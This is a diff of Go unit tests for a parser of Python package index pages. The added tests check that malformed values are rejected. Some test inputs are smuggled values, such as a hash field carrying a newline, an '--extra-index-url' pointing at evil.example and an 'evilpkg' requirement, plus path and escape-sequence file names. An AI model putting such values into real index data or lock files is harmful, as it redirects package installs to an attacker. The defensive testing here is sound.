@@ -31,17 +31,17 @@ func TestParseJSON(t *testing.T) {
 			{
 				Filename:       "numpy-1.26.4-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
 				URL:            "https://files.pythonhosted.org/packages/3a/d0/numpy-1.26.4-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
-				Hashes:         map[string]string{"sha256": "666dbbb05f04"},
+				Hashes:         map[string]string{"sha256": "666dbbb05f04aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},
 				RequiresPython: ">=3.9",
 				HasMetadata:    true,
-				MetadataHashes: map[string]string{"sha256": "7b0d1a"},
+				MetadataHashes: map[string]string{"sha256": "7b0d1a0000000000000000000000000000000000000000000000000000000000"},
 				Size:           18283574,
 				UploadTime:     time.Date(2024, 2, 5, 23, 51, 57, 963353000, time.UTC),
 			},
 			{
 				Filename:       "numpy-2.0.0.tar.gz",
 				URL:            "https://pypi.org/packages/numpy-2.0.0.tar.gz",
-				Hashes:         map[string]string{"sha256": "cf5d"},
+				Hashes:         map[string]string{"sha256": "cf5d111111111111111111111111111111111111111111111111111111111111"},
 				RequiresPython: ">=3.9",
 				Yanked:         true,
 				YankedReason:   "broken build",
@@ -72,12 +72,12 @@ func TestParseHTML(t *testing.T) {
 			Hashes:         map[string]string{"sha256": "c8ab8c92eab928a93c483f83ca8c63f13dafc10fc93ad90ed2dcb7c82ea50410"},
 			RequiresPython: ">=3.8.0",
 			HasMetadata:    true,
-			MetadataHashes: map[string]string{"sha256": "deadbeef"},
+			MetadataHashes: map[string]string{"sha256": "deadbeefdeadbeefdeadbeefdeadbeefdeadbeefdeadbeefdeadbeefdeadbeef"},
 		},
 		{
 			Filename:       "torch-2.5.1+cu121-cp311-cp311-win_amd64.whl",
 			URL:            "https://download.pytorch.org/whl/cu121/torch-2.5.1%2Bcu121-cp311-cp311-win_amd64.whl",
-			Hashes:         map[string]string{"sha256": "ab"},
+			Hashes:         map[string]string{"sha256": "abababababababababababababababababababababababababababababababab"},
 			RequiresPython: ">=3.8.0",
 		},
 		{
@@ -88,7 +88,7 @@ func TestParseHTML(t *testing.T) {
 		{
 			Filename:     "torch-1.0.0-cp36-cp36m-linux_x86_64.whl",
 			URL:          "https://mirror.example/x/torch-1.0.0-cp36-cp36m-linux_x86_64.whl",
-			Hashes:       map[string]string{"md5": "abc"},
+			Hashes:       map[string]string{"md5": "abc00000000000000000000000000000"},
 			Yanked:       true,
 			YankedReason: "bad & broken",
 			HasMetadata:  true,
@@ -125,10 +125,6 @@ func TestParseErrors(t *testing.T) {
 		{JSONType, `{"meta": {"api-version": "1.0"}, "files": [`, "offset"},
 		{JSONType, `{"meta": {"api-version": "2.0"}, "files": []}`, `simple API version "2.0"`},
 		{JSONType, `{"files": []}`, "no meta.api-version"},
-		{JSONType, `{"meta": {"api-version": "1.0"}, "files": [{"filename": "a-1.whl", "url": "a-1.whl", "yanked": 3}]}`, "yanked: want a boolean or a reason"},
-		{JSONType, `{"meta": {"api-version": "1.0"}, "files": [{"filename": "a-1.whl", "url": "a-1.whl", "core-metadata": "yes"}]}`, "core-metadata"},
-		{JSONType, `{"meta": {"api-version": "1.0"}, "files": [{"filename": "../a-1.whl", "url": "a-1.whl"}]}`, "invalid filename"},
-		{JSONType, `{"meta": {"api-version": "1.0"}, "files": [{"filename": "a-1.whl", "url": "a-1.whl", "size": -1}]}`, "negative size"},
 		{JSONType, `{"meta": {"api-version": "1.0"}, "files": {"a": 1}}`, `JSON field "files"`},
 		{"text/html", "Service temporarily unavailable", `not an HTML page: it starts with "Service`},
 		{"text/html", "\x00\x01\xff\xfe", "binary data"},
@@ -138,6 +134,127 @@ func TestParseErrors(t *testing.T) {
 		_, err := Parse("https://pypi.org/simple/a/", tt.contentType, []byte(tt.body))
 		if _, ok := err.(*Error); !ok || !strings.Contains(err.Error(), tt.want) {
 			t.Errorf("Parse(%q) = %v, want an *Error with %q", tt.body, err, tt.want)
+		}
+	}
+}
+
+// TestBadFileValues: a value of a file that cannot be right costs that file (or the
+// value, where the file is still usable), never the page, and is said in Problems.
+// Hashes from JSON are checked as strictly as HTML fragments: a "hash" with a newline
+// and a pip option in it would otherwise be written into a requirements lock.
+func TestBadFileValues(t *testing.T) {
+	good := strings.Repeat("ab", 32)
+	injected := good + `\n--extra-index-url https://evil.example/simple\nevilpkg==6.6.6 --hash=sha256:` + good
+	tests := []struct {
+		name, contentType, file string
+		keep                    bool // the file stays, the odd value dropped
+		problem                 string
+	}{
+		{"newline in a JSON hash", JSONType, `{"filename": "x-1.0.tar.gz", "url": "x-1.0.tar.gz", "hashes": {"sha256": "` + injected + `"}}`,
+			false, `sha256 digest "` + good + `\n--extra-index-u"… is not hexadecimal; file skipped`},
+		{"short JSON hash", JSONType, `{"filename": "x-1.0.tar.gz", "url": "x-1.0.tar.gz", "hashes": {"sha256": "abcd"}}`,
+			false, `sha256 digest "abcd" has 4 hexadecimal digits, not 64; file skipped`},
+		{"hashes not a map", JSONType, `{"filename": "x-1.0.tar.gz", "url": "x-1.0.tar.gz", "hashes": ["` + good + `"]}`,
+			false, "hashes: want a map of hash names to digests; file skipped"},
+		{"hash name with a newline", JSONType, `{"filename": "x-1.0.tar.gz", "url": "x-1.0.tar.gz", "hashes": {"sha256\n--pre": "` + good + `"}}`,
+			false, `hash name "sha256\n--pre" is not a hash function's name; file skipped`},
+		{"newline in a file name", JSONType, `{"filename": "x-1.0.tar.gz\nevilpkg==6.6.6", "url": "x-1.0.tar.gz"}`,
+			false, `file name "x-1.0.tar.gz\nevilpkg==6.6.6" has white space or control characters; file skipped`},
+		{"escape in a file name", JSONType, `{"filename": "x-1.0.tar.gz\u001b[2J", "url": "x-1.0.tar.gz"}`,
+			false, `file name "x-1.0.tar.gz\x1b[2J" has white space or control characters; file skipped`},
+		{"path as a file name", JSONType, `{"filename": "../x-1.0.tar.gz", "url": "x-1.0.tar.gz"}`,
+			false, `file name "../x-1.0.tar.gz" is not a file name; file skipped`},
+		{"control character in a URL query", JSONType, `{"filename": "x-1.0.tar.gz", "url": "x-1.0.tar.gz?a=b\u0085c"}`,
+			false, `url "https://pypi.org/simple/x/x-1.0.tar.gz?a=b\u0085c" has white space or control characters; file skipped`},
+		{"newline in requires-python", JSONType, `{"filename": "x-1.0.tar.gz", "url": "x-1.0.tar.gz", "requires-python": ">=3\n--pre"}`,
+			false, `requires-python ">=3\n--pre" has control characters; file skipped`},
+		{"bad metadata hash", JSONType, `{"filename": "x-1.0.tar.gz", "url": "x-1.0.tar.gz", "core-metadata": {"sha256": "zz"}}`,
+			true, "core-metadata: sha256 digest \"zz\" is not hexadecimal; the metadata file is not used"},
+		{"core-metadata of another type", JSONType, `{"filename": "x-1.0.tar.gz", "url": "x-1.0.tar.gz", "core-metadata": "yes"}`,
+			true, "core-metadata: want a boolean or a map of hashes; the metadata file is not used"},
+		{"negative size", JSONType, `{"filename": "x-1.0.tar.gz", "url": "x-1.0.tar.gz", "size": -1}`,
+			true, "negative size -1 ignored"},
+		{"newline in an HTML hash", "text/html", `<a href="x-1.0.tar.gz#sha256=` + good + `%0A--pre">x</a>`,
+			false, "sha256 digest \"" + good + "\\n--pre\" is not hexadecimal; file skipped"},
+		{"short HTML hash", "text/html", `<a href="x-1.0.tar.gz#sha256=abcd">x</a>`,
+			false, `sha256 digest "abcd" has 4 hexadecimal digits, not 64; file skipped`},
+		{"newline in an HTML file name", "text/html", `<a href="x-1.0.tar.gz%0Aevilpkg==6.6.6">x</a>`,
+			false, `has white space or control characters; file skipped`},
+		{"bad HTML metadata hash", "text/html", `<a href="x-1.0.tar.gz" data-core-metadata="sha256=abcd">x</a>`,
+			true, `data-core-metadata: sha256 digest "abcd" has 4 hexadecimal digits, not 64; the metadata file is not used`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			body := `{"meta": {"api-version": "1.1"}, "files": [` + tt.file + `, {"filename": "x-2.0.tar.gz", "url": "x-2.0.tar.gz", "hashes": {"sha256": "` + good + `"}}]}`
+			if tt.contentType != JSONType {
+				body = "<html><body>" + tt.file + `<a href="x-2.0.tar.gz#sha256=` + good + `">x</a></body></html>`
+			}
+			page, err := Parse("https://pypi.org/simple/x/", tt.contentType, []byte(body))
+			if err != nil {
+				t.Fatalf("the page was lost: %v", err)
+			}
+			var names []string
+			for _, f := range page.Files {
+				names = append(names, f.Filename)
+				for _, v := range f.Hashes {
+					if v != good {
+						t.Errorf("%s kept hash %q", f.Filename, v)
+					}
+				}
+				if f.HasMetadata && f.MetadataHashes != nil {
+					t.Errorf("%s kept metadata hashes %q", f.Filename, f.MetadataHashes)
+				}
+			}
+			want := []string{"x-2.0.tar.gz"}
+			if tt.keep {
+				want = []string{"x-1.0.tar.gz", "x-2.0.tar.gz"}
+			}
+			if diff := cmp.Diff(want, names); diff != "" {
+				t.Errorf("files (-want +got):\n%s", diff)
+			}
+			if len(page.Problems) != 1 || !strings.Contains(page.Problems[0], tt.problem) {
+				t.Errorf("problems %q, want one with %q", page.Problems, tt.problem)
+			}
+		})
+	}
+}
+
+// TestJSONYanked: PEP 691 yanks a file whose "yanked" value is truthy; a reason is
+// a non-empty string. A value of another type is read by its truth, with a problem,
+// and costs neither the file nor the page.
+func TestJSONYanked(t *testing.T) {
+	tests := []struct {
+		value       string
+		yanked      bool
+		reason      string
+		withProblem bool
+	}{
+		{`false`, false, "", false},
+		{`null`, false, "", false},
+		{`true`, true, "", false},
+		{`"broken build"`, true, "broken build", false},
+		{`""`, false, "", false},
+		{`1`, true, "", true},
+		{`0`, false, "", true},
+		{`["x"]`, true, "", true},
+		{`{}`, false, "", true},
+	}
+	for _, tt := range tests {
+		body := `{"meta": {"api-version": "1.1"}, "files": [{"filename": "x-1.0.tar.gz", "url": "x-1.0.tar.gz", "yanked": ` + tt.value + `}]}`
+		page, err := ParseJSON("https://pypi.org/simple/x/", []byte(body))
+		if err != nil {
+			t.Errorf("yanked %s: the page was lost: %v", tt.value, err)
+			continue
+		}
+		if len(page.Files) != 1 {
+			t.Errorf("yanked %s: files %+v", tt.value, page.Files)
+			continue
+		}
+		if f := page.Files[0]; f.Yanked != tt.yanked || f.YankedReason != tt.reason {
+			t.Errorf("yanked %s: Yanked %v, reason %q; want %v, %q", tt.value, f.Yanked, f.YankedReason, tt.yanked, tt.reason)
+		}
+		if got := len(page.Problems) > 0; got != tt.withProblem {
+			t.Errorf("yanked %s: problems %q", tt.value, page.Problems)
 		}
 	}
 }
@@ -196,6 +313,14 @@ func checkPage(t *testing.T, parse func(string, []byte) (*Page, error)) func([]b
 		for _, f := range page.Files {
 			if f.Filename == "" || strings.Contains(f.Filename, "/") || f.URL == "" || strings.Contains(f.URL, "#") || f.Size < 0 {
 				t.Fatalf("bad file %+v", f)
+			}
+			if checkFilename(f.Filename) != nil || checkURL(f.URL) != nil || hasUnprintable(f.RequiresPython, nil) {
+				t.Fatalf("unchecked value in %+v", f)
+			}
+			for name, digest := range f.Hashes {
+				if checkDigest(name, digest) != nil || strings.ToLower(digest) != digest {
+					t.Fatalf("unchecked hash in %+v", f)
+				}
 			}
 		}
 	}
